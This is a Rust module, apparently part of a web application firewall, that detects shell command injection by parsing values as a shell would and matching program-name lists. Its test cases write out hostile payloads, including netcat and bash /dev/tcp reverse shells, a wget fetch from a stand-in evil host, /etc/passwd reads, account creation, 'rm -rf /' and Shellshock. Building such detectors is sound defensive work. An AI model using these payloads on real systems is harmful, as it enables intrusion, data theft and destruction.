//! Command injection: would the value, pasted into a shell command line,
//! run a command of its own?
//!
//! The value is read as a POSIX shell (and Windows `cmd`) would read it as an
//! argument: bare, or after the single or double quote it closes. What it
//! must do to be an attack is reach a command position (after `;`, `|`,
//! `&&`, a newline, inside `$( )` or backticks) and put a command there: a
//! path to a program, or the name of one with what that program takes
//! (options, paths, addresses). Quotes, backslashes, `^`, `$@` and `${IFS}`
//! inside words are undone first, as the shell undoes them. `rock & roll`,
//! `AT&T` and `ping pong table` put no command anywhere.

use super::{lowercase_is, preceding_word, ByteSet, Hit};

pub fn inspect(value: &str) -> Option<Hit> {
    inspect_in(value, &ByteSet::in_text(value))
}

/// [`inspect`], given the bytes `value` holds.
pub(super) fn inspect_in(value: &str, present: &ByteSet) -> Option<Hit> {
    if !present.meets(&SEPARATORS) {
        // Nothing that starts another command (quotes only group words):
        // only a whole command line can run anything: a program with
        // arguments, a path to one (`/usr/bin/id`), or a reconnaissance
        // command on its own.
        let bytes = value.as_bytes();
        let program_path = value.starts_with(['/', '\\']);
        if !program_path && !present.has(b' ') && !lowercase_is(is_recon, bytes) {
            return None;
        }
        let first = bytes.trim_ascii_start();
        let first = &first[..first.iter().position(u8::is_ascii_whitespace).unwrap_or(first.len())];
        let name = &first[first
            .iter()
            .rposition(|b| matches!(b, b'/' | b'\\'))
            .map_or(0, |at| at + 1)..];
        // Program names are short ASCII words, which quotes may split
        // (`c'a't`) without changing what the shell runs.
        let mut buffer = [0; 16];
        let mut length = 0;
        for &byte in name.iter().filter(|b| !matches!(b, b'\'' | b'"')) {
            if length == buffer.len() || !(byte.is_ascii_alphanumeric() || byte == b'-' || byte == b'.') {
                return None;
            }
            buffer[length] = byte.to_ascii_lowercase();
            length += 1;
        }
        let name = &buffer[..length];
        if !is_program(name) && !is_english_program(name) {
            return None;
        }
        return whole_command(&pieces(value));
    }
    if shellshock(value) {
        return Some(Hit {
            score: 5,
            context: "environment variable (Shellshock)",
            at: 0,
        });
    }
    let mut best: Option<Hit> = None;
    let mut consider = |hit: Option<Hit>| {
        if let Some(hit) = hit {
            if best.as_ref().is_none_or(|b| hit.score > b.score) {
                best = Some(hit);
            }
        }
    };
    consider(code_execution(value));
    consider(scan(value, 0, "shell argument"));
    for (quote, context) in [
        ('\'', "single-quoted shell argument"),
        ('"', "double-quoted shell argument"),
    ] {
        if let Some(at) = value.find(quote) {
            consider(scan(value, at + 1, context));
        }
    }
    best
}

/// A value that is a whole command line, for apps that run what they are
/// sent: a program with real arguments (`ls -l /etc/`, not `python jobs`),
/// surest when the arguments reach for a shell or the system's files.
fn whole_command(pieces: &[Piece]) -> Option<Hit> {
    let [Piece::Word(program), rest @ ..] = pieces else {
        return None;
    };
    let name = program
        .rsplit(['/', '\\'])
        .next()
        .unwrap_or(program)
        .to_ascii_lowercase();
    // At the start of a value a program name is also a search term
    // (`python 3`, `PS 5`, `LS 400`, `Route 66`, `NC 27601`): those need
    // the arguments a word does.
    let searched = is_searched(name.as_bytes());
    let strong = is_program(name.as_bytes()) && !searched;
    let english = is_english_program(name.as_bytes()) || searched;
    let arguments = matches!(rest.first(), Some(Piece::Word(_))) && takes_arguments(rest);
    let system = rest.iter().any(|piece| match piece {
        Piece::Word(word) => {
            let lower = word.to_ascii_lowercase();
            // `/`, `/*`, `~`: the whole file system or home.
            matches!(lower.as_str(), "/" | "/*" | "~" | "~/")
                || [
                    "/bin/",
                    "/etc/",
                    "/dev/tcp/",
                    "/usr/bin/",
                    "/sbin/",
                    "c:\\windows",
                    "c:windows",
                    "%systemroot%",
                    "%windir%",
                ]
                .iter()
                .any(|dir| lower.starts_with(dir))
        }
        _ => false,
    });
    // `which nc`, `reg add ...`: a program that names another or changes the system.
    let second = match rest.first() {
        Some(Piece::Word(word)) => word.to_ascii_lowercase(),
        _ => String::new(),
    };
    let manages = (name == "which" && (is_program(second.as_bytes()) || is_english_program(second.as_bytes())))
        || (name == "reg" && ["add", "query", "delete", "save", "export"].contains(&second.as_str()))
        || (name == "net" && is_net_command(second.as_bytes()));
    let score = match (strong, english, arguments, system) {
        _ if manages => 5,
        (true, _, true, _) | (false, true, true, true) => 5,
        // The reconnaissance commands, alone: what a probe runs first.
        (true, _, false, _) if rest.is_empty() && is_recon(name.as_bytes()) => 5,
        (true, _, false, _) if rest.is_empty() => 3,
        (false, true, true, false) => 4,
        _ => return None,
    };
    Some(Hit {
        score,
        context: "command line",
        at: 0,
    })
}

/// Code that runs a command, in the languages payload lists target:
/// Node's `child_process`, PHP's `system()` family, `eval('ls')`, and
/// server-side includes (`<!--#exec cmd=...-->`).
fn code_execution(value: &str) -> Option<Hit> {
    let bytes = value.as_bytes();
    // `name('...')`: each `(` with a code-running name before it and a
    // string after it.
    let call = memchr::memchr_iter(b'(', bytes).any(|at| {
        let name = preceding_word(bytes, at);
        let argument = value[at + 1..].trim_start();
        argument.starts_with(['\'', '"', '`']) && lowercase_is(is_code_call, name)
    });
    // PHP's information functions need no argument.
    let php_info = memchr::memchr_iter(b'(', bytes).any(|at| {
        let name = preceding_word(bytes, at);
        name.eq_ignore_ascii_case(b"phpinfo") || name.eq_ignore_ascii_case(b"phpversion")
    });
    let runs = call
        || php_info
        || memchr::memmem::find(bytes, b"child_process").is_some()
        || memchr::memmem::find(bytes, b"<!--#exec").is_some();
    runs.then_some(Hit {
        score: 5,
        context: "code that runs a command",
        at: 0,
    })
}

/// Functions that run a command line or code given as a string.
/// Program names people also search for, or write as words.
fn is_searched(word: &[u8]) -> bool {
    matches!(
        word,
        b"route"
            | b"dig"
            | b"nc"
            | b"node"
            | b"python"
            | b"python2"
            | b"python3"
            | b"perl"
            | b"ruby"
            | b"php"
            | b"lua"
            | b"curl"
            | b"bash"
            | b"ps"
            | b"ls"
            | b"rm"
            | b"sc"
            | b"ver"
            | b"sed"
            | b"awk"
            | b"ssh"
            | b"sh"
            | b"dir"
            | b"arp"
            | b"gawk"
            | b"zsh"
    )
}

/// Commands that only tell an attacker about the machine.
fn is_recon(word: &[u8]) -> bool {
    matches!(
        word,
        b"whoami" | b"uname" | b"ifconfig" | b"ipconfig" | b"systeminfo" | b"netstat" | b"sysinfo"
    )
}

fn is_code_call(word: &[u8]) -> bool {
    matches!(
        word,
        b"system"
            | b"exec"
            | b"execsync"
            | b"spawn"
            | b"spawnsync"
            | b"execfile"
            | b"passthru"
            | b"shell_exec"
            | b"popen"
            | b"proc_open"
            | b"eval"
    )
}

const SEPARATORS: ByteSet = ByteSet::of(b";|&\n`$(){}<>");

/// `() { :; };` at the start of a header value defined a function in bash
/// before 4.3, and ran what followed.
fn shellshock(value: &str) -> bool {
    let compact: String = value.chars().filter(|c| !c.is_whitespace()).take(6).collect();
    compact.starts_with("(){")
}

#[derive(Debug, Clone, PartialEq, Eq)]
enum Piece {
    /// A word as the shell passes it on, quotes and escapes undone.
    Word(String),
    /// `;`, `|`, `&`, `&&`, `||`, a newline, or a substitution's start:
    /// what follows is a command.
    Separator,
    /// `` ` `` opening a substitution after a plain word (`run `ls` here`):
    /// prose with inline code more often than an attack.
    ProseBacktick,
    /// `>`, `<`, `2>&1`.
    Redirect,
    /// `)` or a closing backtick.
    Close,
}

/// Reads `value[start..]` as shell and scores the commands it reaches.
fn scan(value: &str, start: usize, context: &'static str) -> Option<Hit> {
    let pieces = pieces(&value[start..]);
    let mut best: Option<u8> = None;
    if start == 0 {
        best = whole_command(&pieces).map(|hit| hit.score);
    }
    let mut command_position = false;
    let mut prose = false;
    let mut at = start;
    for (index, piece) in pieces.iter().enumerate() {
        match piece {
            Piece::Separator => {
                command_position = true;
                prose = false;
            }
            Piece::ProseBacktick => {
                command_position = true;
                prose = true;
            }
            Piece::Word(word) if command_position => {
                command_position = false;
                let score = command_score(word, &pieces[index + 1..]).map(|s| if prose { s.min(3) } else { s });
                if score > best {
                    best = score;
                    at = start;
                }
            }
            _ => command_position = false,
        }
    }
    best.map(|score| Hit { score, context, at })
}

/// How surely `word`, in command position and followed by `rest`, runs a
/// program: a path to one, a program that is not also a word of English,
/// or a program that is, given what it takes.
fn command_score(word: &str, rest: &[Piece]) -> Option<u8> {
    let name = word.rsplit(['/', '\\']).next().unwrap_or(word).to_ascii_lowercase();
    let name = name.strip_suffix(".exe").unwrap_or(&name);
    let is_path = word.starts_with('/')
        || word.starts_with("./")
        || word.starts_with("~/")
        || windows_path(word)
        || word.starts_with("usr/bin/")
        || word.starts_with("bin/");
    let name = name.as_bytes();
    if is_path && (is_program(name) || is_english_program(name) || word.starts_with("/dev/tcp/")) {
        return Some(5);
    }
    if is_path && (word.starts_with("/bin/") || word.starts_with("/usr/") || word.starts_with("/sbin/")) {
        return Some(5);
    }
    if is_program(name) {
        return Some(5);
    }
    if is_english_program(name) && takes_arguments(rest) {
        return Some(5);
    }
    // `net user`, `net localgroup`: the Windows account and share commands.
    let net_command = |sub: &str| lowercase_is(is_net_command, sub.as_bytes());
    if name == b"net" && matches!(rest.first(), Some(Piece::Word(sub)) if net_command(sub)) {
        return Some(5);
    }
    // `;id;`, the payload lists' favourite: `id` needs no arguments.
    if name == b"id"
        && matches!(
            rest.first(),
            None | Some(Piece::Separator | Piece::Close | Piece::Redirect)
        )
    {
        return Some(5);
    }
    None
}

/// What follows a program named like a word reads as its arguments, not as
/// prose: an option, a path, an address, a redirect, or a number that ends
/// the line (`sleep 5`). A line that just ends (`rock & roll | AT&T`) does not.
fn takes_arguments(rest: &[Piece]) -> bool {
    // `echo "..." > shell.php`: output sent to a file.
    if rest
        .iter()
        .take_while(|p| **p != Piece::Separator)
        .any(|p| *p == Piece::Redirect)
    {
        return true;
    }
    match rest.first() {
        None | Some(Piece::Separator | Piece::Close | Piece::ProseBacktick) => false,
        Some(Piece::Redirect) => true,
        Some(Piece::Word(next)) => {
            let number = next.bytes().all(|b| b.is_ascii_digit() || b == b'.');
            next.starts_with('-')
                || next.starts_with('/')
                || next.starts_with("./")
                || next.starts_with("../")
                || next.starts_with('~')
                || next.starts_with('$')
                || windows_path(next)
                || next.contains("://")
                || (number && !matches!(rest.get(1), Some(Piece::Word(_))))
        }
    }
}

fn windows_path(word: &str) -> bool {
    let bytes = word.as_bytes();
    // `C:\Windows` (or `C:Windows` once a POSIX shell ate the backslash).
    (bytes.len() >= 2 && bytes[0].is_ascii_alphabetic() && bytes[1] == b':')
        || word.starts_with("\\\\")
        || word.starts_with('%')
}

/// The value split as the shell splits it.
fn pieces(text: &str) -> Vec<Piece> {
    let bytes = text.as_bytes();
    let mut pieces = Vec::new();
    let mut word = String::new();
    let mut in_backticks = false;
    let mut i = 0;
    let flush = |word: &mut String, pieces: &mut Vec<Piece>| {
        if !word.is_empty() {
            pieces.push(Piece::Word(std::mem::take(word)));
        }
    };
    while i < bytes.len() {
        let byte = bytes[i];
        match byte {
            b' ' | b'\t' | b'\r' | 0x0B | 0x0C => flush(&mut word, &mut pieces),
            b'\n' | b';' | b'&' | b'|' => {
                flush(&mut word, &mut pieces);
                // `2>&1`: a redirect, not a separator.
                if byte == b'&' && pieces.last() == Some(&Piece::Redirect) {
                    i += 1;
                    continue;
                }
                pieces.push(Piece::Separator);
                while matches!(bytes.get(i + 1), Some(b'&' | b'|')) {
                    i += 1;
                }
            }
            b'`' => {
                let after_prose = !in_backticks && !word.is_empty() || matches!(pieces.last(), Some(Piece::Word(_)));
                flush(&mut word, &mut pieces);
                if in_backticks {
                    pieces.push(Piece::Close);
                } else if after_prose && !word_glued(bytes, i) {
                    pieces.push(Piece::ProseBacktick);
                } else {
                    pieces.push(Piece::Separator);
                }
                in_backticks = !in_backticks;
            }
            b'$' if bytes.get(i + 1) == Some(&b'(') => {
                flush(&mut word, &mut pieces);
                pieces.push(Piece::Separator);
                i += 1;
            }
            b'<' | b'>' if bytes.get(i + 1) == Some(&b'(') => {
                flush(&mut word, &mut pieces);
                pieces.push(Piece::Separator);
                i += 1;
            }
            b')' => {
                flush(&mut word, &mut pieces);
                pieces.push(Piece::Close);
            }
            b'<' | b'>' => {
                // `2>`: the descriptor belongs to the redirect.
                if word.bytes().all(|b| b.is_ascii_digit()) {
                    word.clear();
                }
                flush(&mut word, &mut pieces);
                pieces.push(Piece::Redirect);
                while matches!(bytes.get(i + 1), Some(b'>' | b'<')) {
                    i += 1;
                }
            }
            b'$' => i += skip_empty_expansion(&bytes[i..], &mut word, &mut pieces) - 1,
            b'{' if word.is_empty() && brace_list(&text[i..]).is_some() => {
                // `{cat,/etc/passwd}` expands to `cat /etc/passwd`.
                let (items, used) = brace_list(&text[i..]).unwrap_or_default();
                pieces.extend(items.into_iter().map(Piece::Word));
                i += used - 1;
            }
            b'\'' | b'"' => {
                // Quotes join their contents to the word, then vanish.
                let close = memchr::memchr(byte, &bytes[i + 1..]).map_or(bytes.len(), |end| i + 1 + end);
                word.push_str(&text[i + 1..close]);
                i = close;
            }
            b'\\' => {
                if let Some(next) = text[i + 1..].chars().next() {
                    if next != '\n' {
                        word.push(next);
                    }
                    i += next.len_utf8();
                }
            }
            // `cmd` escapes: `w^h^o^a^m^i`.
            b'^' => {}
            _ => {
                let c = text[i..].chars().next().unwrap_or('\u{FFFD}');
                word.push(c);
                i += c.len_utf8();
                continue;
            }
        }
        i += 1;
    }
    flush(&mut word, &mut pieces);
    pieces
}

/// A backtick directly after a word character (`x`id``): no space, so not prose.
fn word_glued(bytes: &[u8], at: usize) -> bool {
    at > 0 && bytes[at - 1].is_ascii_alphanumeric()
}

/// `${IFS}`, `$IFS`, `$@`, `$*`, `$1`: expansions an attacker uses as empty
/// strings or spaces. Others stay in the word. Returns the bytes used.
fn skip_empty_expansion(bytes: &[u8], word: &mut String, pieces: &mut Vec<Piece>) -> usize {
    let rest = &bytes[1..];
    let ifs = |r: &[u8]| r.len() >= 3 && r[..3].eq_ignore_ascii_case(b"IFS");
    match rest.first() {
        Some(b'@' | b'*' | b'0'..=b'9') => 2,
        Some(b'{') => {
            let end = memchr::memchr(b'}', rest).map_or(rest.len(), |e| e + 1);
            if ifs(&rest[1..]) && !word.is_empty() {
                pieces.push(Piece::Word(std::mem::take(word)));
            }
            1 + end
        }
        _ if ifs(rest) => {
            if !word.is_empty() {
                pieces.push(Piece::Word(std::mem::take(word)));
            }
            4
        }
        _ => {
            word.push('$');
            1
        }
    }
}

/// `{a,b,c}` at the start of a word: its items and the bytes used. Looked
/// for within a short window, so a value of many `{` stays linear.
fn brace_list(text: &str) -> Option<(Vec<String>, usize)> {
    let window = &text.as_bytes()[..text.len().min(256)];
    let end = memchr::memchr(b'}', window)?;
    let inner = &text[1..end];
    if !inner.contains(',') || inner.contains([' ', '{']) {
        return None;
    }
    Some((inner.split(',').map(str::to_owned).collect(), end + 1))
}

/// Programs whose names are not words of English (or of prose generally),
/// so naming one in command position is enough.
fn is_program(word: &[u8]) -> bool {
    matches!(
        word,
        b"arp"
            | b"awk"
            | b"base64"
            | b"bash"
            | b"bitsadmin"
            | b"busybox"
            | b"certutil"
            | b"chmod"
            | b"chown"
            | b"cmd"
            | b"crontab"
            | b"cscript"
            | b"csh"
            | b"curl"
            | b"dash"
            | b"dig"
            | b"dir"
            | b"dmesg"
            | b"egrep"
            | b"gawk"
            | b"getent"
            | b"grep"
            | b"hexdump"
            | b"hostname"
            | b"icacls"
            | b"ifconfig"
            | b"ifup"
            | b"ipconfig"
            | b"iptables"
            | b"killall"
            | b"ksh"
            | b"ls"
            | b"lsof"
            | b"lua"
            | b"mkdir"
            | b"mkfifo"
            | b"msfvenom"
            | b"mshta"
            | b"nbtstat"
            | b"nc"
            | b"ncat"
            | b"net1"
            | b"netcat"
            | b"netsh"
            | b"netstat"
            | b"nmap"
            | b"node"
            | b"nohup"
            | b"nslookup"
            | b"openssl"
            | b"passwd"
            | b"perl"
            | b"php"
            | b"pkill"
            | b"powershell"
            | b"printenv"
            | b"ps"
            | b"pwd"
            | b"pwsh"
            | b"python"
            | b"python2"
            | b"python3"
            | b"quser"
            | b"regsvr32"
            | b"rm"
            | b"rmdir"
            | b"route"
            | b"rsync"
            | b"ruby"
            | b"rundll32"
            | b"schtasks"
            | b"scp"
            | b"sed"
            | b"sh"
            | b"socat"
            | b"ssh"
            | b"ssh-keygen"
            | b"sudo"
            | b"sysctl"
            | b"systeminfo"
            | b"taskkill"
            | b"tasklist"
            | b"tcsh"
            | b"telnet"
            | b"tftp"
            | b"traceroute"
            | b"tracert"
            | b"uname"
            | b"uptime"
            | b"useradd"
            | b"usermod"
            | b"ver"
            | b"vssadmin"
            | b"wget"
            | b"whoami"
            | b"wmic"
            | b"wscript"
            | b"xargs"
            | b"xterm"
            | b"xxd"
            | b"zsh"
    )
}

fn is_net_command(word: &[u8]) -> bool {
    matches!(
        word,
        b"user"
            | b"localgroup"
            | b"group"
            | b"view"
            | b"share"
            | b"use"
            | b"accounts"
            | b"session"
            | b"start"
            | b"stop"
            | b"config"
    )
}

/// Programs named like words (`cat`, `sleep`, `ping`): in command position
/// they count only with arguments.
fn is_english_program(word: &[u8]) -> bool {
    matches!(
        word,
        b"at"
            | b"cat"
            | b"copy"
            | b"cut"
            | b"date"
            | b"del"
            | b"echo"
            | b"env"
            | b"eval"
            | b"exec"
            | b"export"
            | b"file"
            | b"find"
            | b"finger"
            | b"head"
            | b"host"
            | b"id"
            | b"kill"
            | b"last"
            | b"less"
            | b"mail"
            | b"more"
            | b"move"
            | b"net"
            | b"nl"
            | b"od"
            | b"paste"
            | b"ping"
            | b"print"
            | b"read"
            | b"reg"
            | b"ren"
            | b"rev"
            | b"set"
            | b"sleep"
            | b"sort"
            | b"source"
            | b"start"
            | b"strings"
            | b"tac"
            | b"tail"
            | b"tar"
            | b"tee"
            | b"time"
            | b"touch"
            | b"type"
            | b"unzip"
            | b"w"
            | b"wait"
            | b"wc"
            | b"which"
            | b"who"
            | b"whois"
            | b"zip"
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::waf::testing;

    #[test]
    fn commands_reached_from_an_argument_are_found() {
        testing::assert_all(
            inspect,
            &[
                ";id",
                "; cat /etc/passwd",
                "| whoami",
                "&& ping -c 10 127.0.0.1",
                "|| wget http://evil.example/x.sh",
                "$(sleep 5)",
                "`id`",
                "x`whoami`",
                "127.0.0.1\nid",
                "';id;'",
                "\";cat /etc/passwd;\"",
                "\"$(id)\"",
                ";cat${IFS}/etc/passwd",
                ";c\\at /etc/passwd",
                ";c'a't /etc/passwd",
                ";{cat,/etc/passwd}",
                "| /usr/bin/id",
                "& dir C:\\",
                "| type C:\\Windows\\win.ini",
                "& w^h^o^a^m^i",
                "() { :; }; /bin/bash -c 'id'",
                ";sleep 5;",
                "|nc -e /bin/sh 10.0.0.1 4444",
                "; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
                "\nid",
                "uname -a",
                "which nc",
                "net user hacker Password1 /ADD",
                "reg add \"HKLM\\System\" /v x /d 0 /f",
                "rm -rf /",
                "phpinfo()",
            ],
            true,
        );
    }

    #[test]
    fn prose_with_shell_characters_passes() {
        testing::assert_all(
            inspect,
            &[
                "rock & roll",
                "AT&T",
                "ping pong table",
                "I love cats; cat food is great",
                "tired; sleep 8 hours",
                "Home | My Site",
                "Tom & Jerry | cartoons",
                "run `ls -la` to see the files",
                "price $5 (approx)",
                "a && b || c",
                "Q&A: what's new?",
                "fish & chips; mushy peas",
                "<b>bold</b> & <i>italic</i>",
                "meet me at 5; time flies",
                "Route 66 & 4th Ave (corner)",
                "PS 5",
                "python 3",
                "LS 400 (1990)",
                "Raleigh, NC 27601",
                "rm -rf meme shirt",
            ],
            false,
        );
    }
}
